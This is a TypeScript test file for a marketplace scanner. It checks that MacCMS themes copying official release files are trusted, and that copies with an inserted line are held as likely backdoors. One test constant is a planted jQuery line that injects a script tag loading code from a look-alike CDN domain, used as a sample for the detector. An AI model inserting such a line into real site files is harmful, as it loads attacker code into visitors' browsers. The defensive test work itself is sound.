import fs from 'node:fs';
import path from 'node:path';
import { strToU8, zipSync } from 'fflate';
import { describe, expect, it, vi } from 'vitest';
import { addRelease } from '@/server/content/add-release';
import { checkPackageOffLoop } from '@/server/market/validate/check-off-loop';
import { registerUser } from '../../support/factories';
import { file, themeZip, uploadFile } from './support';

vi.mock('@/server/storage', async () => ({ storage: (await import('./test-storage')).testStorage }));

/** The default template's script: an XHR to a short-link service, its answer appended with jQuery. */
const HOME = fs.readFileSync(path.join(import.meta.dirname, '../../fixtures/official/home.js'), 'utf8');
const VERSION = '2022.1000.3013';
const PLANTED = `                    $('body').append('<script src="https://cdn-jq.top/jquery.min.js"></script>');`;

/** Publishes a MacCMS Pro install package holding the default template, as an administrator does. */
const publish = () =>
  addRelease({
    edition: 'pro',
    kind: 'install',
    version: VERSION,
    notes: { 'zh-cn': 'x', 'en-us': 'x' },
    fileName: `maccms-pro-${VERSION}.zip`,
    bytes: zipSync({
      [`maccms-pro-${VERSION}/template/default/js/home.js`]: strToU8(HOME),
      [`maccms-pro-${VERSION}/template/default/html/index/index.html`]: strToU8(
        '<html>{maccms:title}</html>',
      ),
      [`maccms-pro-${VERSION}/application/index/controller/Index.php`]: strToU8('<?php\nclass Index {}\n'),
      [`maccms-pro-${VERSION}/static/js/player.js`]: strToU8('var MacPlayer={};'),
    }),
  });

/** A theme that carries the default template's script (as `js/home.js`, where the CMS serves it from). */
const theme = (home: string) => themeZip('mytheme', { 'js/home.js': home });

describe("the package scan and the CMS's own release files", () => {
  it('holds the short-link script while no release ships it, and trusts the copy of a published release, naming it', async () => {
    // Without the release this is any theme's code: an XHR to another site whose answer is put in the page.
    const before = await checkPackageOffLoop(theme(HOME), 'mytheme.zip', 'theme');
    expect(before.report.checks.filter((c) => c.level === 'hold').map((c) => c.key)).toEqual([
      'scan.pageLoad',
    ]);

    await publish();
    const dev = await registerUser();
    // Line endings changed by an editor or an FTP upload: still the official file.
    const res = await uploadFile(
      dev.token,
      file(theme(HOME.replace(/\n/g, '\r\n')), 'mytheme.zip'),
      'source',
      'theme',
    );
    expect(res.code).toBe(1);
    expect(res.info.report.held).toBe(false);
    const official = res.info.report.checks.find((c) => c.key === 'officialRelease');
    expect(official?.text).toContain(
      `1 file is identical to MacCMS Pro ${VERSION} template/default/js/home.js`,
    );
  });

  it('holds a copy of an official file with a planted line, naming the line and the file it changes', async () => {
    const lines = HOME.split('\n');
    const at = lines.findIndex((l) => l.includes('.append(r.ShortUrl)')) + 1;
    lines.splice(at, 0, PLANTED);
    const dev = await registerUser();
    const res = await uploadFile(dev.token, file(theme(lines.join('\n')), 'mytheme.zip'), 'source', 'theme');
    expect(res.code).toBe(1);
    expect(res.info.report.held).toBe(true);
    const modified = res.info.report.checks.filter((c) => c.key === 'scan.modifiedOfficial') as unknown as {
      text: string;
      file: string;
      line: number;
      snippet: string;
    }[];
    expect(modified).toHaveLength(1);
    expect(modified[0]).toMatchObject({ file: 'js/home.js', line: at + 1, snippet: PLANTED.trim() });
    expect(modified[0]!.text).toBe(
      `Held: js/home.js is a changed copy of MacCMS Pro ${VERSION} template/default/js/home.js: it differs in 1 line (lines the official file does not have: ${at + 1}). A file of the CMS changed in place is how backdoors are planted`,
    );
  });
});
